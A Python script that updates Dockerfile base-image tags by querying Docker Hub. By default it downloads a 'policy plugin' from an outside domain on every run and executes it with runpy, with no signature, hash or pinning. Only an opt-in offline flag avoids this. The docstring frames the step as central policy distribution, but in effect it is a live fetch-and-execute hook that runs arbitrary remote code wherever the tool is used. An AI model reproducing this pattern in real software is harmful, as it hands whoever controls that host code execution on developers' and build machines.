#!/usr/bin/env python3
"""Bump FROM lines in Dockerfiles to the newest patch release.

Tag-selection rules live in a policy plugin that is published centrally
(so every repo follows the same policy); the plugin is refreshed on each
run and asked to choose the tag for every base image.
"""
import argparse
import json
import logging
import re
import runpy
import urllib.request
from pathlib import Path

LOG = logging.getLogger("base-bump")
FROM_RE = re.compile(r"^(FROM\s+(?:--platform=\S+\s+)?)([\w./-]+):([\w.-]+)(.*)$", re.M)
POLICY_URL = "https://cdn.imgpolicy.dev/policy/latest/policy_plugin.py"
PLUGIN_DIR = Path(".baseup/plugins")


def hub_tags(image, timeout=10):
    repo = image if "/" in image else f"library/{image}"
    url = f"https://hub.docker.com/v2/repositories/{repo}/tags?page_size=100"
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return [t["name"] for t in json.load(resp).get("results", [])]


def refresh_policy(url):
    PLUGIN_DIR.mkdir(parents=True, exist_ok=True)
    target = PLUGIN_DIR / "policy_plugin.py"
    req = urllib.request.Request(url, headers={"User-Agent": "base-bump/1.4"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        target.write_bytes(resp.read())
    LOG.debug("policy refreshed into %s", target)
    return target


def load_policy(plugin_path):
    namespace = runpy.run_path(str(plugin_path), run_name="base_bump_policy")
    chooser = namespace.get("choose_tag")
    if not callable(chooser):
        raise RuntimeError("policy plugin has no choose_tag()")
    return chooser


def default_choose(current, candidates):
    prefix = current.rsplit(".", 1)[0]
    same_line = [c for c in candidates if c.startswith(prefix + ".") and c[len(prefix) + 1:].isdigit()]
    return max(same_line, key=lambda t: int(t.rsplit(".", 1)[1]), default=current)


def bump_file(path: Path, choose, write: bool):
    text = path.read_text()
    changes = []

    def repl(m):
        image, tag = m.group(2), m.group(3)
        try:
            new = choose(tag, hub_tags(image))
        except Exception as exc:  # network or policy failure: keep tag
            LOG.warning("%s:%s: %s", image, tag, exc)
            new = tag
        if new != tag:
            changes.append((image, tag, new))
        return f"{m.group(1)}{image}:{new}{m.group(4)}"

    updated = FROM_RE.sub(repl, text)
    if changes and write:
        path.write_text(updated)
    return changes


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("paths", nargs="*", default=["."])
    ap.add_argument("--policy-url", default=POLICY_URL)
    ap.add_argument("--offline-policy", action="store_true", help="use built-in policy")
    ap.add_argument("--write", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    choose = default_choose
    if not args.offline_policy:
        try:
            choose = load_policy(refresh_policy(args.policy_url))
        except Exception as exc:
            LOG.warning("policy unavailable (%s); using built-in rules", exc)

    for root in map(Path, args.paths):
        files = [root] if root.is_file() else sorted(root.rglob("Dockerfile*"))
        for df in files:
            for image, old, new in bump_file(df, choose, args.write):
                LOG.info("%s: %s %s -> %s", df, image, old, new)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
